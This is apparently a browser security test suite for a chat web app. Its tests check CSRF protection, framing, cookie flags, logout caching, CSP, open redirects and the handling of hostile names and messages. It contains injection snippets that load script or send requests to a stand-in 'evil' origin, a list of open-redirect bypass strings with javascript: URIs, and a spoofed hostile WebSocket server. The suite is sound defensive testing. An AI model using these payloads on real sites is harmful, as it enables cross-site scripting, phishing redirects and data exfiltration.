"""What other people's pages, names and words can do in a real browser:
nothing. One site and one browser for all; each test begins signed out."""

import csv
import io
import json
import re

import pytest
from selenium.common.exceptions import (NoAlertPresentException,
                                        NoSuchFrameException)

from people import HERE, USERS, Site
from sharing import NO_WORKER, at_start
from stranger import Stranger, fetch_page, form_page

PAYLOADS = json.loads((HERE / "payloads.json").read_text())
SOURCES = "same-site", "cross-site"
BLOCKED = "chrome-error://chromewebdata/"
REFUSED = re.compile(r"event=refuse path=(\S+) reason=origin .*"
                     r"fetch_site=(\S+)")


@pytest.fixture(scope="module")
def home():
    """A site of our own, where one may talk as fast as one likes."""
    site = Site(users=USERS, set={"wsd.user_rate": 0,
                                  "wsd.leave_grace_s": 0})
    try:
        yield site.start()
    finally:
        site.close()


@pytest.fixture(scope="module")
def browser(pool, home):
    b = pool.take(home.url)
    yield b
    pool.give(b)


@pytest.fixture
def b(browser):
    browser.begin_anew()
    yield browser
    browser.check_console()


@pytest.fixture
def stranger():
    s = Stranger()
    yield s
    s.close()


def session_of(b):
    """The name of who is signed in, as the site sees this browser."""
    b.open("/login?next=/account")
    return b.driver.execute_async_script("""const [done] = arguments;
        fetch("/session").then(r => r.json()).then(s => done(s.user));""")


def cookies(b):
    """As the browser holds them, also those no script sees."""
    got = b.driver.execute_cdp_cmd("Network.getCookies", {"urls": [b.url]})
    return {c["name"]: c for c in got["cookies"]}


def sign_out(b):
    b.one("#logout").click()
    b.wait(lambda: b.path().startswith("/login"), "the login")


def token(b, path):
    b.open(path)
    return b.one("[name=csrf]").get_property("value")


def send_as_our_own(b, action, fields):
    """The same form as a stranger's, from a page of ours."""
    old = b.one("html")
    b.js("""const form = document.createElement("form");
        form.method = "post";
        form.action = arguments[0];
        for (const [name, value] of Object.entries(arguments[1])) {
            const input = document.createElement("input");
            Object.assign(input, {type: "hidden", name, value});
            form.append(input);
        }
        document.body.append(form);
        form.submit();""", action, fields)
    b.wait_gone(old)


@pytest.mark.parametrize("source", SOURCES)
def test_cross_site_post(b, home, stranger, source):
    """With every token right, as if it had leaked: the source alone keeps
    the form out, by the cookie that stays away or by Origin."""
    pre_csrf = token(b, "/login")
    pre = cookies(b)["gatecast-pre"]["value"]
    b.fill("alice", USERS["alice"])
    b.wait_path("/index")
    csrf = token(b, "/index")
    other = home.login("alice")
    # The stranger's own, for a victim that signs in as somebody else: on the
    # same host it can be set for our port too.
    stranger.cookie = f"gatecast-pre={pre}; Path=/; HttpOnly; SameSite=Lax"
    forms = {
        "/account/sessions/revoke": {"csrf": csrf, "session": "others"},
        "/account/password": {
            "csrf": csrf, "current": USERS["alice"],
            "new": "the stranger's choice", "again": "the stranger's choice"},
        "/logout": {"csrf": csrf},
        "/login": {"csrf": pre_csrf, "next": "/index", "name": "bob",
                   "password": USERS["bob"]},
    }
    before = cookies(b)["gatecast"]["value"]
    b.allow("status of 403", "status of 401", "blocked by CORS policy", "net::ERR_FAILED")
    seen = len(REFUSED.findall(home.log()))
    for path, fields in forms.items():
        stranger.pages = {"/form": form_page(home.url + path, fields),
                          "/fetch": fetch_page(home.url + path, fields)}
        b.driver.get(stranger.origins[source] + "/form")
        b.wait_path(path)
        assert b.one("#error .status").text == "403"
        b.driver.get(stranger.origins[source] + "/fetch")
        b.wait(lambda: b.driver.title == "opaque,failed", "its answers")
    # The form, two of fetch and the beacon, each told by the browser.
    b.wait(lambda: REFUSED.findall(home.log())[seen:] ==
           [(path, source) for path in forms for _ in range(4)],
           "the audit lines")
    assert cookies(b)["gatecast"]["value"] == before
    assert session_of(b) == "alice"
    assert other.get(home.url + "/session").json()["user"] == "alice"
    home.login("alice", USERS["alice"])
    # From a page of ours the same forms do what they say.
    for path, user in (("/account/sessions/revoke", "alice"),
                       ("/logout", None), ("/login", "bob")):
        send_as_our_own(b, path, forms[path])
        assert session_of(b) == user
    assert other.get(home.url + "/session").status_code == 401


def framed(b, element):
    """What a frame shows; None: there is no frame."""
    try:
        b.driver.switch_to.frame(element)
    except NoSuchFrameException:
        return None
    url, text = b.js("return [document.URL, document.body.innerText]")
    b.driver.switch_to.default_content()
    return url if url == BLOCKED else text


@pytest.mark.parametrize("source", SOURCES)
def test_framing(b, home, stranger, source):
    """Others' pages show nothing of ours, whichever element they use."""
    b.sign_in("alice")
    paths = "/index", "/login", "/account", "/session", "/no-such-page"
    frames = "".join(f'<iframe src="{home.url}{p}"></iframe>' for p in paths)
    stranger.pages = {
        "/": f'<iframe src="/inner"></iframe>{frames}'
             f'<object data="{home.url}/account"></object>'
             f'<embed src="{home.url}/account">',
        "/inner": "<p>what a frame shows</p>"}
    b.allow("frame-ancestors", "X-Frame-Options", "chrome-error:")
    b.driver.get(stranger.origins[source])
    shown = [framed(b, e) for e in b.all("iframe, object, embed")]
    assert shown[0] == "what a frame shows"
    assert len(shown) == len(paths) + 3
    assert set(shown[1:]) <= {BLOCKED, None}


def test_cookie_flags(b, home):
    """As the browser understood them; https is test_security_https."""
    b.open("/login?lang=en")
    b.one("[name=theme]").click()
    b.sign_in("alice")
    got = cookies(b)
    assert set(got) == {"gatecast", "gatecast-pre", "lang", "theme"}
    for name, c in got.items():
        assert (c["httpOnly"], c["sameSite"], c["path"], c["domain"]) == \
            (True, "Lax", "/", "127.0.0.1"), name
        assert c["secure"] is False
        assert c["session"] is (name == "gatecast-pre"), name
    for path in "/index", "/account":
        b.open(path)
        assert b.js("return document.cookie") == ""


def shown(b):
    """Everything a person or a script could see of the page."""
    return b.js("return document.documentElement.outerHTML")


def set_offline(b, is_offline):
    b.driver.execute_cdp_cmd("Network.emulateNetworkConditions", {
        "offline": is_offline, "latency": 0, "downloadThroughput": -1,
        "uploadThroughput": -1})


def is_private(b):
    """Whether anything stands in the page that is for who is signed in."""
    return b.js("""return document.body?.checkVisibility() &&
        document.querySelector("main:is(#chat, #account)") !== null;""")


@pytest.mark.parametrize("is_offline", [False, True])
def test_back_after_logout(b, home, is_offline):
    """Neither asked for again nor out of a cache; nobody is connected."""
    b.sign_in("alice")
    b.say("what only those who are signed in may read")
    b.wait(lambda: b.all("#lines [data-state=sent]"), "said")
    b.open("/account")
    b.driver.back()
    b.wait(lambda: is_private(b), "the chat")
    b.wait_state("open")
    b.driver.forward()
    b.wait(lambda: is_private(b), "the account")
    b.driver.back()
    b.wait_state("open")
    sign_out(b)
    assert "gatecast" not in cookies(b)
    b.allow("ERR_INTERNET_DISCONNECTED")
    set_offline(b, is_offline)
    try:
        # To the first page and to the last again.
        steps = b.js("return history.length") - 1
        for step in [b.driver.back] * steps + [b.driver.forward] * steps:
            step()
            assert not is_private(b)
            b.wait(lambda: b.js("return document.readyState") == "complete",
                   "the page")
            assert not is_private(b)
    finally:
        set_offline(b, False)
    b.wait(lambda: json.loads(home.gatecast("who", "--json").stdout) == [],
           "nobody there")


def test_back_after_the_end(b, home):
    """Ended by the administrator, with the cookie still there."""
    b.sign_in("alice")
    b.open("/account")
    b.open("/index")
    b.wait_state("open")
    home.gatecast("session", "revoke", "--user", "alice")
    b.wait_path("/login?next=/index")
    for _ in range(2):
        b.driver.back()
        assert not is_private(b)
        b.wait(lambda: b.path().startswith("/login"), "the login")


WATCH = """addEventListener("securitypolicyviolation", (e) => {
    const all = JSON.parse(sessionStorage.violations ?? "[]");
    all.push([e.effectiveDirective, e.blockedURI]);
    sessionStorage.violations = JSON.stringify(all);
}, true);"""


def violations(b):
    return json.loads(b.js("return sessionStorage.violations ?? '[]'"))


def test_no_violation_in_normal_use(b, home):
    """The console is looked at as well, when the test is over."""
    b.allow("status of 401", "status of 404", "status of 403",
            "status of 422")
    with at_start(b, WATCH):
        b.open("/login")
        b.one("[name=theme]").click()
        b.one("[name=lang]").click()
        b.one("[name=lang]").click()
        b.one(".secret button").click()
        b.fill("alice", "not the password")
        b.open("/nothing-here")
        b.sign_in("alice")
        home.gatecast("publish", "see https://example.org/")
        b.wait(lambda: b.all("#lines .notice a"), "the notice")
        b.say("hello")
        b.wait_message("alice", "hello", "sent")
        for css in "[name=theme]", "#people-toggle", "#notify":
            if b.one(css).is_displayed():
                b.one(css).click()
        b.open("/account")
        for name in "current", "new", "again":
            b.one(f"#{name}").send_keys("wrong")
        old = b.one("html")
        b.one("#password .main").click()
        b.wait_gone(old)
        b.open("/index")
        sign_out(b)
        assert violations(b) == []


# What is tried in each page, and the directive that keeps it out.
TRIES = {
    "script-src-elem": """
        put("script", {textContent: "window.pwned = 1"});
        put("script", {src: evil + "/script.js"});
        put("script", {src: "data:text/javascript,window.pwned=1"});
        put("script", {type: "module", textContent: "window.pwned = 1"});
        put("a", {href: "javascript:window.pwned=1"}).click();""",
    "script-src-attr": """
        const div = put("div", {});
        div.setAttribute("onclick", "window.pwned = 1");
        div.click();""",
    "script-src": "setTimeout('window.pwned = 1');",
    "img-src": """put("img", {src: evil + "/image.png"});
        put("img", {src: "data:image/gif;base64,R0lGODlhAQABAAAAACw="});""",
    "style-src-elem": """put("style", {textContent: "*{color: red}"});
        put("link", {rel: "stylesheet", href: evil + "/style.css"});""",
    "style-src-attr": """put("div", {}).setAttribute("style", "color: red");
        """,
    "connect-src": """fetch(evil + "/fetch").catch(() => 0);
        navigator.sendBeacon(evil + "/beacon", "x");
        try { new WebSocket(evil.replace("http", "ws")); } catch {}""",
    "frame-src": """put("iframe", {src: evil + "/frame"});
        put("iframe", {src: location.href});""",
    "object-src": """put("object", {data: evil + "/object"});
        put("embed", {src: evil + "/embed"});""",
    "media-src": """put("video", {src: evil + "/video"});""",
    "font-src": """new FontFace("x", `url(${evil}/font)`).load().catch(
        () => 0);""",
    "manifest-src": """put("link", {rel: "manifest", href: evil + "/m"});""",
    "worker-src": """try { new Worker("data:text/javascript,1"); } catch {}""",
    "base-uri": """put("base", {href: evil});""",
    "form-action": """const form = put("form", {action: evil + "/form"});
        form.submit();""",
}
# Chromium asks for a manifest only in a window that can install it.
SEEN = set(TRIES) - {"manifest-src"}
TRY = """
const evil = arguments[0];
const put = (tag, what) => {
    const e = Object.assign(document.createElement(tag), what);
    document.body.append(e);
    return e;
};
""" + "\n".join(f"{{ {script} }}" for script in TRIES.values())


def test_injected_is_blocked(b, home, stranger):
    """Had a page been tricked into holding it, the policy would stop it."""
    b.driver.get(stranger.origins["cross-site"] + "/seen")
    stranger.hits.clear()
    b.allow("Content Security Policy", "status of 404", "fonts")
    for path in "/login", "/nothing-here", "/account", "/index":
        with at_start(b, WATCH):
            b.open(path)
            if path in ("/account", "/index") and b.path() != path:
                b.fill("alice", USERS["alice"])
                b.wait_path(path)
            b.js("sessionStorage.violations = '[]'")
            b.js(TRY, stranger.origins["cross-site"])
            b.wait(lambda: SEEN <= {v[0] for v in violations(b)},
                   f"all of {SEEN} on {path}")
        assert b.path() == path
        assert b.js("return window.pwned === undefined")
        assert b.js("return document.querySelector('div').style.color") == ""
    assert stranger.hits == []


NEXT = [
    "//EVIL/", "/\\EVIL/", "http:EVIL/", "http://EVIL/", "%2f%2fEVIL/",
    "/\t/EVIL/",
    # These without leaving the page.
    "///EVIL/", "\\\\EVIL/", "/\\/EVIL/", "https:EVIL/", "http:/EVIL/",
    "/\n/EVIL/", "/\r\n/EVIL/", "\t//EVIL/", " //EVIL/", "/%2fEVIL/",
    "/%5cEVIL/", "/%09/EVIL/", "/.//EVIL/", "/..//EVIL/", "@EVIL/",
    "/@EVIL//", ".EVIL/", "javascript:window.pwned=1", "data:text/html,x",
    "/\u2028/EVIL/", "/\uff0fEVIL/"]
NAVIGATED = 6
# Where each leads as the form's field and in the query, by the browser's own
# idea of a URL; a redirect to another site fails.
FOLLOW = """const [csrf, password, variants, done] = arguments;
const follow = (...request) => fetch(...request).then(r => r.url, String);
Promise.all(variants.map(async (next) => [
    await follow("/login", {method: "POST", body: new URLSearchParams(
        {name: "alice", password, csrf, next})}),
    await follow("/login?next=" + next),
    await follow("/login?next=" + encodeURIComponent(next)),
])).then(all => done(all.flat()));"""


def test_no_open_redirect(b, stranger):
    evil = f"evil.localhost:{stranger.port}"
    b.driver.get(f"http://{evil}/seen")
    assert stranger.hits == ["/seen"]
    variants = [v.replace("EVIL", evil) for v in NEXT]
    b.allow("status of 40")  # what is refused at once
    for variant in variants[:NAVIGATED]:
        b.driver.delete_all_cookies()
        b.open("/login")
        b.js("document.querySelector('[name=next]').value = arguments[0]",
             variant)
        b.fill("alice", USERS["alice"])
        b.wait_path("/index")
        b.open("/login?next=" + variant)
        assert b.driver.current_url.startswith(b.url + "/"), variant
    b.driver.delete_all_cookies()
    csrf = token(b, "/login")
    ended = b.driver.execute_async_script(
        FOLLOW, csrf, USERS["alice"], [*variants, "/account"])
    assert ended[-3:] == [b.url + "/account"] * 3
    assert {url.split("?")[0] for url in ended[:-3]} <= \
        {b.url + "/index", b.url + "/login", b.url + "/@" + evil}, ended
    assert stranger.hits == ["/seen"]


ALLOWED = {"H2", "UL", "LI", "BDI", "SPAN", "P", "TIME", "A", "BUTTON"}


def check_inert(b, where):
    """No element, attribute or dialog has come of what was said."""
    tags, handlers, links, foreign = b.js("""
        const [where] = arguments;
        const all = [...document.querySelectorAll(`:is(${where}) *`)];
        return [[...new Set(all.map(e => e.tagName))],
            [...document.querySelectorAll("*")].flatMap(e =>
                e.getAttributeNames().filter(a => a.startsWith("on"))),
            all.filter(e => e.tagName === "A").map(a => [a.protocol,
                a.getAttribute("href") === a.textContent]),
            performance.getEntriesByType("resource").map(r => r.name)
                .filter(n => new URL(n).host !== location.host)];""", where)
    assert set(tags) <= ALLOWED, tags
    assert handlers == [] and foreign == []
    assert all(link in (["http:", True], ["https:", True]) for link in links)
    assert b.js("return window.pwned === undefined")
    with pytest.raises(NoAlertPresentException):
        b.driver.switch_to.alert.accept()


def tail(b, css, n):
    return b.js("""return [...document.querySelectorAll(arguments[0])]
        .slice(-arguments[1]).map(e => e.textContent)""", css, n)


def test_payloads_as_messages(b, home):
    """Said by a user, published by the administrator, and read again."""
    b.sign_in("alice")
    for text in PAYLOADS:
        b.js("""const box = document.querySelector("#text");
            box.value = arguments[0];
            box.form.requestSubmit();""", text)
    b.wait(lambda: len(b.all("#lines .message[data-state=sent]")) ==
           len(PAYLOADS), "all of them acknowledged")
    n = len(PAYLOADS)
    assert tail(b, "#lines .message .text", n) == PAYLOADS
    check_inert(b, "#lines")
    some = PAYLOADS[::4]
    for text in some:
        home.gatecast("publish", input=text)
    b.wait(lambda: tail(b, "#lines .notice .text", len(some)) == some,
           "the notices")
    assert [s.endswith(p) for s, p in
            zip(tail(b, "#spoken p", 6), some[-6:])] == [True] * 6
    check_inert(b, "#lines, #spoken")
    b.open("/index")
    b.wait(lambda: tail(b, "#lines .notice .text", len(some)) == some and
           tail(b, "#lines .message .text", n) == PAYLOADS, "the history")
    check_inert(b, "#lines")


# A server that has been taken over: whatever it likes to name people.
HOSTILE = """window.WebSocket = class extends WebSocket {
    set onmessage(take) {
        super.onmessage = (e) => {
            const m = JSON.parse(e.data);
            if (m.type !== "hello")
                return take(e);
            const names = NAMES;
            const time = new Date().toISOString();
            let seq = m.seq;
            const tell = (what) => take({data: JSON.stringify(
                {seq: ++seq, time, ...what})});
            m.online = names.slice(0, 20).map(user => ({user, since: time}));
            take({data: JSON.stringify(m)});
            for (const user of names) {
                tell({type: "join", user});
                tell({type: "message", user, text: user});
            }
        };
    }
};"""


# The name in the form again, and what the page is made of otherwise.
SEEN_OF = """const seen = (page) => [page.querySelector("#name").value,
    page.querySelector("#name").getAttributeNames().join(),
    page.querySelectorAll("#login > *").length,
    page.querySelectorAll("script, img, svg, iframe, a").length];
"""


def test_payloads_as_names(b, home):
    """The grammar of names has none of them; the pages do not count on it."""
    table = io.StringIO()
    csv.writer(table).writerows(
        [["name", "password"], *([p, "a good passphrase"] for p in PAYLOADS)])
    path = home.top / "names.csv"
    path.write_text(table.getvalue())
    done = home.gatecast("user", "import", str(path), check=False)
    assert done.returncode == 1, done.stderr
    assert done.stderr.count("a name is made of letters") == len(PAYLOADS), \
        done.stderr
    assert set(u["name"] for u in json.loads(
        home.gatecast("user", "list", "--json").stdout)) == set(USERS)
    b.allow("status of 401")
    b.open("/login")
    b.fill("nobody", "x")
    seen = b.js(SEEN_OF + "return seen(document)")
    assert seen[0] == "nobody"
    answers = b.driver.execute_async_script(SEEN_OF + """
        const [names, done] = arguments;
        const body = new FormData(document.querySelector("form.fields"));
        Promise.all(names.map(async (name) => {
            body.set("name", name);
            body.set("password", "x");
            const answer = await fetch("/login", {method: "POST",
                body: new URLSearchParams(body)});
            return seen(new DOMParser().parseFromString(await answer.text(),
                "text/html"));
        })).then(done, (e) => done([String(e)]));""", PAYLOADS)
    assert answers == [[name, *seen[1:]] for name in PAYLOADS]
    for name in PAYLOADS[::5]:
        old = b.one("html")
        b.js("""const form = document.querySelector("form.fields");
            form.name.value = arguments[0];
            form.password.value = "x";
            form.submit();""", name)
        b.wait_gone(old)
        assert b.js(SEEN_OF + "return seen(document)") == [name, *seen[1:]]
        assert b.js("return window.pwned === undefined")
    with at_start(b, NO_WORKER + HOSTILE.replace(
            "NAMES", json.dumps(PAYLOADS))):
        b.sign_in("alice")
        n = len(PAYLOADS)
        b.wait(lambda: tail(b, "#lines .message .who", n) == PAYLOADS, "them")
        joined = [re.sub("[\u2068\u2069]", "", s)
                  for s in tail(b, "#lines .join .text", n)]
        assert joined == [f"{p} joined" for p in PAYLOADS]
        b.wait(lambda: set(PAYLOADS) <= set(b.online()), "who is online")
        check_inert(b, "#lines, #people, #spoken")
